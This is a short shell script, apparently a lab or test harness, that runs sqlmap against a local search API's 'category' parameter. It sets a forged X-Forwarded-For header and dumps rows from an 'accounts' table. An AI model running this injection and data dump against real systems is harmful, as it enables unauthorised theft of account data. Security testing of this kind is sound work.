#!/bin/sh
# Finds and uses the hole in the search, with sqlmap. PORT ADDRESS DIR [extra sqlmap options]
# --delay keeps the pace bearable; the techniques B, E and U need no sleeping statements.
set -eu
port=$1 address=$2 dir=$3
shift 3
timeout 300 sqlmap --batch --disable-coloring --output-dir "$dir/sqlmap" --flush-session \
    -u "http://127.0.0.1:$port/api/v1/search?q=lamp&category=lighting" -p category \
    --technique BEU --level 2 --delay 0.15 --headers "X-Forwarded-For: $address" \
    -D main -T accounts --dump --stop 12 "$@" > "$dir/sqlmap.txt" 2>&1 || true
